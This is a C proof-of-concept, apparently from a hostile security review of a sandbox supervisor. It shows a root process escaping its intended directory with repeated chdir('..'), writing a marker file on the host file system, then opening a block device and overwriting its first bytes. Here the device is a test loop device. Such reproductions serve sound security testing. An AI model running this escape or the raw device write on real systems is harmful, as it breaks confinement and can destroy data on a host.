/* ha18-climb.c (hostile review h-attack18, against main 22693ed): a root
 * agent that starts in a working directory the supervisor did not move
 * (its getcwd failed) climbs with chdir("..") until it finds the entry
 * argv[1] (a block device the reproduction made: a loop device over a temp
 * file), opens it for writing and writes argv[2] at offset 0. Then it
 * creates argv[3] in the directory it started from or the first one above
 * it that takes it, showing a host file system written too. Prints what it found on the way. */
#include <errno.h>
#include <fcntl.h>
#include <linux/stat.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static unsigned long long mnt_id(const char *path)
{
	struct statx sx;

	if (syscall(SYS_statx, AT_FDCWD, path, AT_SYMLINK_NOFOLLOW, STATX_MNT_ID, &sx) != 0)
		return 0;
	return sx.stx_mnt_id;
}

int main(int argc, char **argv)
{
	struct stat st;
	int start, fd;

	if (argc < 4)
		return 2;
	start = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	printf("climb: cwd on mount %llu, '/' on mount %llu\n", mnt_id("."), mnt_id("/"));
	for (int up = 0; up < 3; up++) {
		fd = openat(AT_FDCWD, argv[3], O_CREAT | O_WRONLY | O_TRUNC | O_CLOEXEC, 0644);
		if (fd >= 0) {
			if (write(fd, "written by a root agent\n", 24) != 24)
				perror("climb: write marker");
			close(fd);
			printf("climb: created %s %d levels above the start (mount %llu)\n",
			       argv[3], up, mnt_id("."));
			break;
		}
		printf("climb: create %s %d levels above the start: %s\n", argv[3], up,
		       strerror(errno));
		if (chdir("..") != 0)
			break;
	}
	if (fchdir(start) != 0)
		return 1;
	for (int i = 0; i < 4096; i++) {
		if (fstatat(AT_FDCWD, argv[1], &st, AT_SYMLINK_NOFOLLOW) == 0 &&
		    S_ISBLK(st.st_mode)) {
			printf("climb: found block device %s after %d steps (mount %llu)\n",
			       argv[1], i, mnt_id("."));
			fd = open(argv[1], O_RDWR | O_CLOEXEC);
			if (fd < 0) {
				printf("climb: open %s O_RDWR: %s\n", argv[1], strerror(errno));
				return 1;
			}
			if (pwrite(fd, argv[2], strlen(argv[2]), 0) != (ssize_t)strlen(argv[2])) {
				printf("climb: write: %s\n", strerror(errno));
				return 1;
			}
			fsync(fd);
			close(fd);
			printf("climb: wrote '%s' to the raw block device\n", argv[2]);
			return 0;
		}
		if (chdir("..") != 0)
			break;
		if (mnt_id(".") == mnt_id("/") && fstatat(AT_FDCWD, argv[1], &st, 0) != 0)
			break;
	}
	printf("climb: no block device %s reached\n", argv[1]);
	return 1;
}
